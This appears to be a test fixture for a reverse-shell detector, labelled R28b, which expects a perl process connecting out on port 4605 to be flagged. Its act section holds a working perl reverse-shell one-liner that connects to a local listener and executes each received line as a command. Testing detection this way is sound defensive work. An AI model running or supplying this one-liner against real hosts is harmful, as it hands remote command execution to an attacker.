# R28b: perl reads the output of each command of a peer
# stage: equipped
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $perl
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4605
#   reverse_shell.process_list.length: 1

#: prepare
. lib/peers.sh
commander 4605 300 'id; sleep 0.1'
#: act
. lib/peers.sh
act
perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, sockaddr_in(4605, inet_aton("127.0.0.1"))) or die;
S->autoflush(1); while (<S>) { print S `$_` }' \
  < /dev/null > /dev/null 2>&1 & fact perl $!
await 'at $perl 3 socket:*'
